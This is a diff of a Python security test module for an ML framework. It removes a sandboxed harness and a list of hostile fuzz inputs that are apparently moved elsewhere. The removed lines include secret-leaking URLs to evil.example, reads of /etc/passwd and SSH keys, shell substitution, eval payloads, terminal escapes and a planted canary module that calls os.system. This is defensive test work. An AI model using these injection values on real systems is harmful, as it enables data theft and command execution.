@@ -11,278 +11,38 @@ from __future__ import annotations
 import json
 import os
 import shutil
-import subprocess
-import sys
 import time
 from base64 import b64encode
 from collections.abc import Callable, Iterator, Sequence
 from contextlib import closing
 from pathlib import Path
-from typing import Any, NamedTuple
+from typing import Any
 
 import numpy as np
 import pandas as pd
 import pytest
 import yaml
-from hypothesis import HealthCheck, Phase, given, settings
+from hypothesis import given
 from hypothesis import strategies as st
 
-from framework.cli.main import main
 from framework.journal import Journal
-from framework.models.store import save_model
-from tests.cascade.tables import cascades
 from tests.experiment import small
 from tests.libraries import builds
 from tests.tracking import sweeps
-from tests.trust.conftest import CONFIG
+from tests.trust.forgeries import HOSTILE, forged, forged_bytes, placed, trying
 from tests.trust.forging import seal
 from tests.trust.pages import check_page
 from tests.trust.test_hostile_server import Hostile
-from tests.trust.test_received import little
+from tests.trust.watch import PATIENCE, RUN, SHORT, Said, Watched, check
 
-ROOT = Path(__file__).parents[2]
-WATCHING = Path(__file__).with_name("watching")
-PATIENCE = 60  # seconds for one command
-TABLE = "a,b,target\n" + "".join(f"{i % 7},{i % 5},{i % 2}\n" for i in range(60))
-EVIL = "import os, sys\nopen('forged', 'w').close()\nos.system('touch forged')\n"
 CALLS = ("correct", "confidence", "cost")
 CASCADE_OBJECTIVES = [{"metric": "accuracy", "sense": "max"}, {"metric": "cost", "sense": "min"}]
-SHORT = ["--quiet", "--no-plots", "--set", "budget.seconds=1"]
-
-
-class Said(NamedTuple):
-    """What a command did: exit code, what it printed, and its effects beyond its folders."""
-
-    code: int
-    out: str
-    err: str
-    effects: list[list[str]]
-
-
-class Watched:
-    """A watched process with a home, a working folder and a folder for what is received."""
-
-    def __init__(self, base: Path) -> None:
-        self.base, self.count = base, 0
-        places = ("home/.ssh", "work", "received", "config", "cache", "tmp", "elsewhere")
-        for name in (*places, "packages"):
-            (base / name).mkdir(parents=True)
-        (base / "packages" / "evil.py").write_text(EVIL)  # it could be imported
-        (base / "effects").touch()
-        (base / "home" / "secret.csv").write_text(TABLE)
-        (base / "home" / ".ssh" / "id_rsa").write_text("a key\n")
-        for name in ("numba", "sklearn", "pandas", "evil", "optuna", "mlflow", "sitecustomize"):
-            for folder in ("work", "received"):
-                (base / folder / f"{name}.py").write_text(EVIL)
-        may = [base / name for name in ("work", "received", "config", "cache", "tmp")]
-        self.environment = {
-            **{k: v for k, v in os.environ.items() if not k.startswith(("MLFLOW", "PARETOLAB"))},
-            "HOME": str(base / "home"),
-            "XDG_CONFIG_HOME": str(base / "config"),
-            "XDG_CACHE_HOME": str(base / "cache"),
-            "MPLCONFIGDIR": str(base / "cache"),
-            "TMPDIR": str(base / "tmp"),
-            "RAY_TMPDIR": "/tmp",  # names of its sockets are short
-            "A_SECRET": "s3cret",
-            "MLFLOW_TRACKING_TOKEN": "t0ken",
-            "PYTHONPATH": f"{WATCHING}:{base / 'packages'}",
-            "WATCH_FILE": str(base / "effects"),
-            "WATCH_MAY": ":".join(map(str, may)),
-            "WATCH_SENT": f"{base / 'received'}:{base / 'work'}:{base / 'packages'}",
-            "WATCH_SECRET": str(base / "home"),
-        }
-        self._process = subprocess.Popen(
-            [sys.executable, "-P", str(ROOT / "tests" / "trust" / "watched.py")],
-            env=self.environment,
-            stdin=subprocess.PIPE,
-            stdout=subprocess.PIPE,
-            text=True,
-        )
-
-    def folder(self) -> Path:
-        """Return a new folder for what is received."""
-        self.count += 1
-        place = self.base / "received" / str(self.count)
-        place.mkdir()
-        return place
-
-    def call(
-        self,
-        *arguments: object,
-        folder: Path | None = None,
-        without: Sequence[str] = (),
-        pages: bool = False,
-    ) -> Said:
-        """Run a command in the process; it ends in time, in a known code, without a traceback.
-
-        ``without`` names checks that are taken out meanwhile; ``pages`` says whether those of runs
-        are written.
-        """
-        asked = {
-            "arguments": list(map(str, arguments)),
-            "folder": str(folder or self.work),
-            "without": list(without),
-            "pages": pages,
-        }
-        self._process.stdin.write(json.dumps(asked) + "\n")
-        self._process.stdin.flush()
-        answer = self._process.stdout.readline()
-        assert answer, f"the process ended at {arguments}"
-        said = Said(**json.loads(answer))
-        assert said.code in (0, 2, 3), f"{arguments}: {said}"
-        return said
-
-    @property
-    def work(self) -> Path:
-        return self.base / "work"
-
-    def close(self) -> None:
-        assert self._process.stdin is not None
-        self._process.stdin.close()
-        self._process.wait(PATIENCE)
 
 
 @pytest.fixture(scope="module")
 def watched(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Watched]:
     with closing(Watched(tmp_path_factory.mktemp("watched"))) as process:
         yield process
-
-
-def check(said: Said, arguments: object) -> None:
-    """Fail where a command did what nobody granted, or wrote an escape sequence."""
-    assert not said.effects, f"{arguments}: {said}"
-    assert "\x1b" not in said.out + said.err, f"{arguments}: {said}"
-    assert said.code != 2 or "paretolab: " in said.err, f"{arguments}: {said}"
-
-
-# --- what a forger writes ---------------------------------------------------------------------
-
-HOSTILE: tuple[Any, ...] = (
-    "http://evil.example/leak/${A_SECRET}/x",
-    "http://${A_SECRET}@evil.example/",
-    "https://evil.example:443",
-    "http://127.0.0.1:9@evil.example\\@127.0.0.1",
-    "evil-plugin://x",
-    "postgresql://${A_SECRET}:x@evil.example/db",
-    "postgresql:///db?service=x&passfile=/etc/passwd",
-    "sqlite:////ELSEWHERE/new/m.db",
-    "sqlite:///../../elsewhere/m.db",
-    "sqlite:///file:/ELSEWHERE/x?mode=rwc&uri=true",
-    "file:///ELSEWHERE/mlruns",
-    "databricks",
-    "HOME/secret.csv",
-    "../../home/secret.csv",
-    "~/secret.csv",
-    "HOME/.ssh/id_rsa",
-    "/dev/zero",
-    "/proc/kmsg",
-    "/etc/passwd",
-    "ELSEWHERE",
-    "../../../elsewhere/x",
-    "evil",
-    "evil.Evil",
-    "evil:main",
-    "os.system",
-    "subprocess.Popen",
-    "builtins.eval",
-    "numpy.f2py.crackfortran.myeval",
-    "__import__('os').system('touch forged')",
-    "\x1b]0;owned\x07\x1b[31mred",
-    "\u202egnp.exe",
-    '=HYPERLINK("http://evil.example")',
-    "<script>alert(1)</script>",
-    "![x](http://evil.example/x.png)",
-    "[/bold]",
-    "${A_SECRET}",
-    "$(touch forged)",
-    "x" * 5000,
-    "",
-    None,
-    True,
-    -1,
-    10**30,
-    float("nan"),
-    1e308,
-    [],
-    {},
-    [[]],
-    {"x": None},
-    ["os.system", "touch forged"],
-)
-SECTIONS: tuple[tuple[str, Any], ...] = (
-    ("tracking", {"uri": "http://evil.example", "experiment": "x"}),
-    ("tracking", {"uri": "sqlite:////ELSEWHERE/m.db", "system_metrics": True}),
-    ("cluster", {"pip": ["evil"], "py_modules": ["."], "env_vars": {"PYTHONPATH": "."}}),
-    ("cluster", {"address": "ray://evil.example:10001"}),
-    ("cluster", {"runtime_env": {"working_dir": "https://evil.example/x.zip"}}),
-    ("sweep", {"storage": "postgresql://evil.example/x", "search_space": {}, "trials": 1}),
-    ("dataset", {"path": "HOME/secret.csv"}),
-    ("dataset", {"openml": 31}),
-    ("costs", {"path": "HOME/secret.csv"}),
-    ("library", {"path": "HOME"}),
-    ("path", "HOME/secret.csv"),
-    ("kind", "evil"),
-    ("kind", "python"),
-    ("classifier", {"kind": "evil.Evil"}),
-    ("callbacks", ["evil:main"]),
-    ("pages", ["evil"]),
-    ("cases", {"x": "HOME/secret.csv"}),
-    ("__class__", "os"),
-    ("__reduce__", ["os.system", ["touch forged"]]),
-)
-
-
-def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
-    """Yield the path to every part of a JSON value."""
-    items = value.items() if isinstance(value, dict) else enumerate(value)
-    for key, item in items:
-        yield (*path, key)
-        if isinstance(item, dict | list):
-            yield from places(item, (*path, key))
-
-
-@st.composite
-def forged(draw: st.DrawFn, value: Any) -> Any:
-    """Draw a copy of a JSON value with up to three parts replaced, added or left out."""
-    copy = json.loads(json.dumps(value))
-    for _ in range(draw(st.integers(1, 3))):
-        known = list(places(copy))
-        if not known:
-            break
-        *path, last = draw(st.sampled_from(known))
-        node = copy
-        for key in path:
-            node = node[key]
-        what = draw(st.integers(0, 5))
-        if what == 0:
-            del node[last]
-        elif what == 1 and isinstance(node, dict):
-            key, section = draw(st.sampled_from(SECTIONS))
-            node[key] = section
-        elif what == 2 and isinstance(node, dict):
-            name = draw(st.sampled_from([v for v in HOSTILE if isinstance(v, str)]))
-            node[name] = node.pop(last)
-        else:
-            node[last] = draw(st.sampled_from(HOSTILE))
-    return copy
-
-
-def placed(text: str, base: Path) -> str:
-    """Return a forged text with its names of folders filled in."""
-    return text.replace("ELSEWHERE", str(base / "elsewhere").lstrip("/")).replace(
-        "HOME", str(base / "home")
-    )
-
-
-def trying(examples: int) -> Any:
-    return settings(
-        max_examples=examples,
-        derandomize=True,
-        database=None,
-        deadline=None,
-        phases=[Phase.generate],
-        suppress_health_check=list(HealthCheck),
-    )
 
 
 @pytest.fixture(params=[1, pytest.param(20, marks=pytest.mark.slow)], ids=["some", "many"])
@@ -293,8 +53,7 @@ def times(request: pytest.FixtureRequest) -> int:
 
 # --- configurations ---------------------------------------------------------------------------
 
-RUN = yaml.safe_load(CONFIG)
-SHIPPED = sorted(p for p in (ROOT / "configs").rglob("*.yaml"))
+SHIPPED = sorted(p for p in (Path(__file__).parents[2] / "configs").rglob("*.yaml"))
 CONFIGURATIONS = {
     "run": (RUN, "run"),
     "experiment": (small.raw(repeats=1), "experiment"),
@@ -341,25 +100,6 @@ def test_forged_configurations_that_are_shipped_do_nothing_outside(watched, time
 
 
 # --- directories: runs, models, libraries -----------------------------------------------------
-
-
-@pytest.fixture(scope="module")
-def made(tmp_path_factory: pytest.TempPathFactory, finished: Path) -> dict[str, Path]:
-    """Return a finished directory of each kind that one may receive."""
-    folder = tmp_path_factory.mktemp("made")
-    sweeps.write(folder, sweeps.raw(trials=2))
-    small.write(folder, small.raw(repeats=1), "experiment.yaml")
-    for command, config in (("sweep", "little.yaml"), ("experiment", "experiment.yaml")):
-        place = str(folder / command)
-        assert main([command, str(folder / config), "--out", place, "--quiet"]) == 0
-    little().save(folder / "library")
-    shutil.copytree(finished / "model", folder / "model")
-    problem = cascades()
-    genome = problem.space.sample(np.random.default_rng(3), 1)[0]
-    save_model(problem.policy(genome), folder / "cascade", example=pd.DataFrame(problem.example()))
-    kinds = ("sweep", "experiment", "library", "model", "cascade")
-    known = {name: folder / name for name in kinds}
-    return known | {"run": finished}
 
 
 OPENED: dict[str, tuple[list[str], ...]] = {
@@ -421,19 +161,6 @@ def test_forged_directories_do_nothing_outside(kind, made, other, watched, times
 
 
 # --- tables and arrays --------------------------------------------------------------------------
-
-
-def changed_bytes(draw: st.DrawFn, content: bytes) -> bytes:
-    """Draw a copy of a file with some bytes replaced, left out or put in."""
-    new = bytearray(content)
-    for _ in range(draw(st.integers(1, 6))):
-        at = draw(st.integers(0, len(new) - 1))
-        length = draw(st.integers(0, 8))
-        new[at : at + length] = draw(st.binary(max_size=8))
-    return bytes(new)
-
-
-forged_bytes = st.composite(changed_bytes)
 
 
 @pytest.mark.parametrize("ending", [".csv", ".csv.gz", ".parquet"])
